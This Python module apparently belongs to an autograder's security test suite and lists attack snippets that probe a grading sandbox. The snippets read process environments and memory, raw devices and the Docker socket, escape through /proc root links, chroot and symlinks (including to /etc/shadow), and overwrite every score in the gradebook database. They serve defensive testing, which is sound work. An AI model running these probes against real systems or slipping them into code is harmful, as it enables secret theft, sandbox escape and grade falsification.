"""Attacks that want to read: tests, answers, tokens, the gradebook, another's work."""

from __future__ import annotations

from tests.grading.attacks.corpus import Attack

__all__ = ["ATTACKS"]

TOKENS = "read tokens"
ANSWERS = "read tests and answers"
OTHERS = "read another's work"
GRADEBOOK = "change the gradebook"

# Every secret of the test class looks like this, and this text itself does not.
SECRET = 'rb"canary-[0-9a-f]{16}|quince-[0-9]{4}"'

FIND = f"""
import os, re
def look(content, where):
    found = re.search({SECRET}, content)
    if found: print("REACHED", where, found.group())
def read(path, most=3_000_000):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try: return os.read(fd, most)
        finally: os.close(fd)
    except OSError: return b""
"""

ENVIRONMENT = """
look(repr(dict(os.environ)).encode(), "own environment")
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "auxv", "comm", "stack", "mountinfo", "task/1/environ"):
        look(read(f"/proc/{pid}/{name}"), f"{pid}/{name}")
"""

MEMORY = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid != me and libc.ptrace(16, pid, 0, 0) == 0: print("REACHED ptrace", pid)
    if pid != me:
        try:
            for line in open(f"/proc/{pid}/maps"):
                print("REACHED maps", pid); break
            open(f"/proc/{pid}/mem", "rb").read(1)
            print("REACHED mem", pid)
        except OSError: pass
    class Vec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    room = ctypes.create_string_buffer(64)
    local = Vec(ctypes.addressof(room), 64); remote = Vec(id(room), 64)
    if pid != me and libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        print("REACHED vm", pid)
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, mode, *rest = line.split()
        if mode[0] != "r" or len(rest) > 3 and rest[3].startswith(("/usr", "[v")): continue
        begin, end = (int(part, 16) for part in span.split("-"))
        if end - begin < 30_000_000 and len(rest) < 4:
            try:
                memory.seek(begin); content = memory.read(end - begin)
            except (OSError, ValueError): continue
            if re.search(rb"canary-[0-9a-f]{16}", content): print("REACHED own memory")
"""

FILES = """
import sys
skip = {"/proc", "/sys", "/usr", "/lib", "/lib64", sys.prefix, sys.base_prefix}
names = {"gradebook.db", "store.sqlite", "cohort.toml", "handins", "solutions", "graders", "autograded"}
for root, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(root, f) not in skip]
    for name in {*folders, *files} & names: print("REACHED", root, name)
    for name in files:
        if not name.endswith((".py", ".pyc", ".so", ".a", ".h", ".pyi")):
            look(read(os.path.join(root, name), 300_000), os.path.join(root, name))
"""

AROUND_PROC = """
for pid in (*filter(str.isdigit, os.listdir("/proc")), "self", "thread-self"):
    for way in ("root", "cwd", "root/..", "cwd/../../..", "task/1/root"):
        base = f"/proc/{pid}/{way}"
        for place in ("%DATA%", "%CONTENT%", "%OUTSIDE%"):
            try: found = os.listdir(base + place)
            except OSError: continue
            if found: print("REACHED", base, place, found)
        look(read(f"{base}%OUTSIDE%/canary.txt"), base)
"""

HANDLES = """
import stat
for fd in range(3, 4096):
    try: kind = os.fstat(fd).st_mode
    except OSError: continue
    if stat.S_ISDIR(kind):
        for place in ("../../../../../../../..%OUTSIDE%/canary.txt", "../../canary.txt", "."):
            try: look(os.read(os.open(place, os.O_RDONLY, dir_fd=fd), 1000), place)
            except OSError: pass
        os.fchdir(fd)
        try: os.chroot(".")
        except OSError: pass
    elif stat.S_ISREG(kind):
        look(os.pread(fd, 3_000_000, 0), f"handle {fd}")
"""

DEVICES = """
import glob
for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/proc/kcore", "/proc/kallsyms",
             "/proc/keys", "/dev/fuse", "/dev/kvm", "/dev/loop-control", "/proc/sysrq-trigger",
             *glob.glob("/dev/sd*"), *glob.glob("/dev/vd*"), *glob.glob("/dev/nvme*"),
             *glob.glob("/dev/loop*"), "/run/docker.sock", "/var/run/docker.sock"):
    if path in ("/proc/kallsyms", "/proc/keys"):
        continue
    for mode in (os.O_RDONLY, os.O_WRONLY):
        try: fd = os.open(path, mode | os.O_NONBLOCK)
        except OSError: continue
        print("REACHED", path, mode)
"""

PACKAGE = """
import importlib.resources, pathlib
for name in ("bootcamp", "bootcamp.content", "bootcamp.kit"):
    try:
        root = pathlib.Path(importlib.import_module(name).__file__).parent
        for base in (root, *root.parents):
            for inner in ("_content/graders", "_content/solutions", "graders", "solutions", "tests"):
                inside = list((base / inner).glob("**/*"))
                if inside: print("REACHED", inside[:2])
    except Exception: pass
try:
    from bootcamp.grading.checks import load_checks
    from bootcamp.content import content_root
    if load_checks(content_root() / "graders" / "checks"): print("REACHED checks")
except Exception: pass
"""

MODULES = """
import gc, sys
me = {name for name in globals()}
for thing in gc.get_objects():
    if isinstance(thing, (str, bytes)) : look(thing.encode() if isinstance(thing, str) else thing, "gc")
    elif isinstance(thing, dict):
        for value in list(thing.values()):
            if isinstance(value, str): look(value.encode(errors="replace"), "gc")
    elif str(type(thing).__module__).startswith(("bootcamp.store", "bootcamp.grading.c", "nbgrader")):
        print("REACHED", thing)
frame = sys._getframe()
while frame: look(repr(list(frame.f_locals)).encode(), "frames"); frame = frame.f_back
"""

DATABASE = """
import sqlite3, subprocess, sys
script = '''
import glob, os, sqlite3
for path in ["%DATA%/course/gradebook.db", *glob.glob("/*/*/*/gradebook.db"), *glob.glob("/*/*/gradebook.db")]:
    if os.path.exists(path):
        db = sqlite3.connect(path)
        db.execute("update grade set manual_score = 2997, auto_score = 2997")
        db.commit()
        print("REACHED", path)
'''
done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
print(done.stdout)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1)\\n" + script], start_new_session=True)
for make in (os.makedirs, os.mkfifo):
    try: make("%DATA%/course/submitted")
    except OSError: pass
    else: print("made one of our own, which is nobody else's")
"""

LINKS = """
for number, target in enumerate(("%DATA%/course/gradebook.db", "%OUTSIDE%/canary.txt", "/etc/shadow",
        "%CONTENT%/graders/checks/small.py", "/proc/1/environ", "/proc/self/root%OUTSIDE%/canary.txt")):
    for link, way in ((os.symlink, "soft"), (os.link, "hard")):
        try: link(target, f"{way}-{number}.json")
        except OSError: continue
        look(read(f"{way}-{number}.json"), target)
os.symlink("%OUTSIDE%/canary.txt", "notes.json")
os.symlink("%OUTSIDE%", "folder")
os.symlink("/", "root")
"""

TOLD_BY_ITS_ERROR = """
def double(x):
    raise type(f"canary_{x}", (Exception,), {})
"""

ATTACKS = (
    Attack("environments", TOKENS, (FIND + ENVIRONMENT,)),
    Attack("memory-of-others", TOKENS, (FIND + MEMORY,)),
    Attack("handles", TOKENS, (FIND + HANDLES,)),
    Attack("devices", TOKENS, (FIND + DEVICES,)),
    Attack("walks-the-disk", OTHERS, (FIND + FILES,)),
    Attack("around-proc", OTHERS, (FIND + AROUND_PROC,)),
    Attack("links", OTHERS, (FIND + LINKS,)),
    Attack("package", ANSWERS, (FIND + PACKAGE,)),
    Attack("told-by-its-error", ANSWERS, (TOLD_BY_ITS_ERROR,)),
    Attack("living-objects", ANSWERS, (FIND + MODULES,)),
    Attack("database", GRADEBOOK, (FIND + DATABASE,)),
)
